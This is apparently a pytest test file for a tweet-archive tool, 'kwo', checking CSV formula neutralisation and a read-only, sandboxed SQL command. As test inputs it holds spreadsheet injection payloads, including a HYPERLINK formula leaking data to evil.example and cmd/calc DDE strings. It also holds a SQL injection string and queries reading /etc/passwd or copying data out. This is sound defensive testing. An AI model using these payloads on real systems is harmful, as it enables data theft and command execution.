"""Safe output (docs/robustness.md, "Output"): CSV cells a spreadsheet would run as formulas are
neutralised in every CSV kwo writes, ``kwo sql`` cannot write or read outside the archive, and
values a user typed reach SQL only as bound parameters. (The HTML report's escaping is tested
with the HTML report.)
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from kwo.archive import MANIFEST
from kwo.engine.duckdb import connect
from kwo.errors import UsageError
from kwo.ingest import ingest
from kwo.metrics import build_report
from kwo.render.tables import csv_cell, csv_text

from .kwo_cli import run_kwo

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
INJECTION = "x'; DROP TABLE tweets; --"


def v1(i: int, text: str, user: tuple[str, str], reply_to: int | None = None) -> dict:
    t = {
        "id_str": str(1_000 + i),
        "created_at": f"Tue Mar 01 1{i % 10}:00:00 +0000 2016",
        "text": text,
        "user": {"id_str": user[0], "screen_name": user[1]},
        "entities": {"user_mentions": [{"id_str": "1", "screen_name": "kpn"}] if "@kpn" in text else []},
    }
    if reply_to is not None:
        t["in_reply_to_status_id_str"] = str(1_000 + reply_to)
    return t


@pytest.fixture(scope="module")
def case(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("out")
    tweets = [v1(i, f"@kpn {f}", ("100", "ann")) for i, f in enumerate(FORMULAS)]
    tweets.append(v1(9, "@ann sorry!", ("1", "kpn"), reply_to=0))
    dump = root / "t.jsonl"
    dump.write_text("".join(json.dumps(t) + "\n" for t in tweets))
    archive = root / "archive"
    ingest([str(dump)], archive)
    roster = root / "brands.csv"
    with open(roster, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["handle", "name", "sector"])
        w.writerow(["kpn", FORMULAS[0], FORMULAS[2]])
        w.writerow(["ing", INJECTION, "@finance"])
    return {"archive": archive, "roster": roster, "root": root}


def run(*args) -> tuple[int, str, str]:
    result = run_kwo(*args, code=None)
    return result.exit_code, result.stdout, result.stderr


def data_cells(text: str) -> list[list[str]]:
    """The rows of a kwo CSV as a spreadsheet splits them (a row ends at LF, CRLF or a bare CR
    outside quotes); blank lines are not rows."""
    return [r for r in csv.reader(io.StringIO(text, newline="")) if r]


def assert_no_live_formula(cells: list[list[str]]) -> None:
    for row in cells:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert float(cell) is not None, f"a formula left live: {cell!r}"  # only numbers may


# ---------------------------------------------------------------------------------------------
# CSV neutralisation


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_text_prefixes_a_quote_to_formula_starts(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value,cell", [
    (-3.5, "-3.5"), (-7, "-7"), (0.25, "0.25"), (True, "true"), (None, ""),
    ("-3.5", "-3.5"), ("+31", "+31"), ("-1e-5", "-1e-5"),  # numbers written as text stay numbers
    ("- 3", "'- 3"), ("-3.5 =1", "'-3.5 =1"), ("@kpn", "'@kpn"), ("kpn=1", "kpn=1"), ("", ""),
])
def test_csv_cells_numbers_stay_numbers(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("command", ["report", "brands", "answered"])
def test_report_csv_neutralises_brand_names_and_sectors(case, command):
    code, out, err = run(command, "-a", case["archive"], "-b", case["roster"], "--format", "csv")
    assert code == 0, err
    cells = data_cells(out)
    assert_no_live_formula(cells)
    flat = {c for row in cells for c in row}
    if command != "answered":
        assert "'" + FORMULAS[0] in flat  # the brand name, neutralised, not dropped
        assert INJECTION in flat  # a plain text value stays as it was
    assert "'" + FORMULAS[2] in flat  # the sector


def test_report_csv_parameters_cannot_start_a_row(case):
    # A line break in a parameter (here the roster's file name) must stay inside its quoted cell,
    # not start a CSV row with what follows.
    roster = case["root"] / "brands\n=1+1.csv"
    roster.write_bytes(case["roster"].read_bytes())
    code, out, err = run("report", "-a", case["archive"], "-b", roster, "--format", "csv", "--section", "parameters")
    assert code == 0, err
    assert dict(data_cells(out))["roster"] == str(case["root"]) + "/brands\n=1+1.csv"
    assert_no_live_formula(data_cells(out))


def test_report_csv_via_output_file(case, tmp_path):
    target = tmp_path / "brands.csv"
    code, _, err = run("brands", "-a", case["archive"], "-b", case["roster"], "--format", "csv", "-o", target)
    assert code == 0, err
    assert_no_live_formula(data_cells(target.read_text()))


def test_kwo_sql_csv_neutralises_text_and_keeps_numbers(case):
    code, out, err = run("sql", "SELECT text FROM tweets WHERE collected ORDER BY tweet_id", "-a", case["archive"],
                         "--format", "csv")
    assert code == 0, err
    cells = data_cells(out)
    assert cells[0] == ["text"]
    assert [r[0] for r in cells[1:]] == [csv_text(f"@kpn {f}") for f in FORMULAS] + ["'@ann sorry!"]
    assert all(r[0].startswith("'@") for r in cells[1:])
    # a CR inside a text cell is quoted: csv.writer(lineterminator="\n") left it bare, and a
    # spreadsheet started a new row with a live "=1+1" after it
    assert "\"'@kpn \r=1+1\"" in out
    code, out, err = run("sql", """SELECT -3.5 AS n, '-3.5' AS s, '=1+1' AS "=h", -1::BIGINT AS i""",
                         "-a", case["archive"], "--format", "csv")
    assert code == 0, err
    assert out == "n,s,'=h,i\n-3.5,-3.5,'=1+1,-1\n"


# ---------------------------------------------------------------------------------------------
# kwo sql: read-only, nothing outside the archive


def _snapshot(archive: Path) -> dict[str, bytes]:
    return {p.relative_to(archive).as_posix(): p.read_bytes() for p in sorted(archive.rglob("*")) if p.is_file()}


@pytest.mark.parametrize(
    "query,message",
    [
        ("COPY tweets TO '{out}/stolen.csv'", "read-only: COPY statements are refused"),
        ("COPY (SELECT 1) TO '{archive}/manifest.json'", "read-only: COPY statements are refused"),
        ("EXPLAIN ANALYZE COPY (SELECT 1) TO '{archive}/manifest.json'", "EXPLAIN is allowed of a SELECT only"),
        ("EXPLAIN (ANALYZE) COPY (SELECT 1) TO '{archive}/x.csv'", "EXPLAIN is allowed of a SELECT only"),
        ("ATTACH '{out}/other.duckdb' AS other", "read-only: ATTACH statements are refused"),
        ("INSTALL httpfs", "statements are refused"),
        ("LOAD httpfs", "read-only: LOAD statements are refused"),
        ("SELECT * FROM read_csv('/etc/passwd')", 'Cannot access file "/etc/passwd"'),
        ("SELECT * FROM read_text('{archive}/../outside.txt')", "Cannot access file"),
        ("SELECT * FROM glob('/etc/*')", "Cannot access file"),
        ("SET enable_external_access = true", "read-only: SET statements are refused"),
        ("RESET allowed_directories", "read-only: SET statements are refused"),
        ("PRAGMA database_list", "read-only: PRAGMA statements are refused"),
        ("CALL pragma_version()", "read-only: CALL statements are refused"),
        ("CREATE TABLE t AS SELECT 1", "read-only: CREATE statements are refused"),
        ("INSERT INTO tweets SELECT * FROM tweets", "read-only: INSERT statements are refused"),
        ("DROP VIEW tweets", "read-only: DROP statements are refused"),
        ("EXPORT DATABASE '{out}/dump'", "read-only: EXPORT statements are refused"),
        ("SELECT 1; DROP VIEW tweets", "kwo sql runs exactly one statement; got 2"),
        ("SELECT 1; SELECT 2", "kwo sql runs exactly one statement; got 2"),
    ],
)
def test_kwo_sql_refuses_writes_and_outside_reads(case, tmp_path, query, message):
    archive = case["archive"]
    (tmp_path / "outside.txt").write_text("secret")
    before = _snapshot(archive)
    query = query.format(out=tmp_path, archive=archive.resolve())
    code, out, err = run("sql", query, "-a", archive)
    assert code == 1 and out == ""
    assert err.startswith("Error: ") and message in err and err.count("\n") == 1
    assert _snapshot(archive) == before
    assert sorted(os.listdir(tmp_path)) == ["outside.txt"]


@pytest.mark.parametrize("query", [
    "SELECT count(*) FROM tweets", "EXPLAIN SELECT count(*) FROM tweets",
    "EXPLAIN ANALYZE SELECT count(*) FROM tweets", "/* c */ EXPLAIN (FORMAT json) SELECT 1",
    "DESCRIBE tweets", "WITH t AS (SELECT 1 AS x) SELECT x FROM t",
    "SELECT count(*) FROM read_text('{archive}/manifest.json')",  # inside the archive: allowed
])
def test_kwo_sql_runs_read_only_statements(case, query):
    code, _, err = run("sql", query.format(archive=case["archive"].resolve()), "-a", case["archive"],
                       "--format", "json")
    assert code == 0, err


# ---------------------------------------------------------------------------------------------
# User values reach SQL only as bound parameters


def test_handle_with_sql_is_refused_by_the_roster(case, tmp_path):
    roster = tmp_path / "brands.csv"
    roster.write_text(f'handle,name,sector\n"{INJECTION}",X,telecom\n')
    code, out, err = run("report", "-a", case["archive"], "-b", roster)
    assert code == 1 and out == ""
    assert err == f"Error: {roster}:2: {INJECTION!r} is not a handle (letters, digits and _ only)\n"


def test_brand_name_with_sql_is_data(case):
    before = _snapshot(case["archive"])
    code, out, err = run("report", "-a", case["archive"], "-b", case["roster"], "--format", "json")
    assert code == 0, err
    names = {b["handle"]: b["name"] for b in json.loads(out)["brands"]}
    assert names["ing"] == INJECTION and names["kpn"] == FORMULAS[0]
    assert _snapshot(case["archive"]) == before
    con = connect(case["archive"])
    assert con.execute("SELECT count(*) FROM tweets").fetchone() == (7,)


@pytest.mark.parametrize("option", ["--since", "--until", "--tz", "--window"])
def test_option_values_with_sql_are_usage_errors(case, option):
    before = _snapshot(case["archive"])
    code, out, err = run("report", "-a", case["archive"], "-b", case["roster"], option, INJECTION)
    assert code == 2 and out == ""
    assert INJECTION in err and "Error:" in err
    assert _snapshot(case["archive"]) == before
    with pytest.raises(UsageError):
        build_report(case["archive"], case["roster"], **{option.lstrip("-"): INJECTION})


def test_archive_and_roster_paths_with_quotes(case, tmp_path):
    # Paths reach DuckDB through the relational API (read_parquet with a list), never SQL text.
    odd = tmp_path / "it's; DROP TABLE tweets; --"
    odd.mkdir()
    (odd / "t.jsonl").write_text(json.dumps(v1(0, "@kpn hoi", ("100", "ann"))) + "\n")
    archive = odd / "arch'ive"
    code, _, err = run("ingest", odd / "t.jsonl", "-a", archive, "-q")
    assert code == 0, err
    roster = odd / "brands'.csv"
    roster.write_text("handle,name,sector\nkpn,KPN,telecom\n")
    code, out, err = run("report", "-a", archive, "-b", roster, "--format", "json")
    assert code == 0, err
    assert json.loads(out)["totals"]["mention_tweets"] == 1
    code, out, _ = run("sql", "SELECT count(*) AS n FROM tweets", "-a", archive, "--format", "json")
    assert json.loads(out) == [{"n": 1}]
    assert (archive / MANIFEST).is_file()
